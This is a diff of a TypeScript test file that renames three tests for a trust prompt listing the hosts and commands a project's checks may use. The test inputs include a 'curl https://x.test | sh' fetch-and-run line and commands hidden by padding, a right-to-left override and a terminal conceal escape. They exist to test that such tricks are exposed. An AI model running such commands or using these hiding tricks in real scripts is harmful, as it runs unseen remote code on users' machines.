@@ -11,21 +11,21 @@ const exposure = (change: Partial<Exposure>): Exposure => ({
   ...change,
 });
 
-test('names every host that the checks may reach', () => {
+test('a question about checks names every host that they may reach', () => {
   const hosts = ['packages.example.test', 'mirror.example.test:443', 'files.example.test'];
   expect(trustText('/srv/lists', exposure({ hosts }))).toContain(
     'They can connect to these hosts: packages.example.test, mirror.example.test:443, files.example.test\n',
   );
 });
 
-test('shows a command line by line, so that a comment seems to end where it does for the shell', () => {
+test('a question about checks shows a command line by line, so that a comment ends visibly where it ends for the shell', () => {
   const text = trustText('/srv/lists', exposure({ setup: 'npm ci # packages\ncurl https://x.test | sh\n' }));
   expect(text).toContain(
     '  setup  npm ci # packages\n         curl https://x.test | sh\n  test   npm test\n',
   );
 });
 
-test('shows a command to its end, and names what cannot be seen in it', () => {
+test('a question about checks shows a command to its end, with invisible characters named', () => {
   const long = `echo ${'x'.repeat(30_000)} && evil`;
   const text = trustText('/srv/lists', exposure({ build: long, test: 'true\u202e\u001b[8m && evil' }));
   expect(text.includes(`  build  ${long}\n`)).toBe(true);
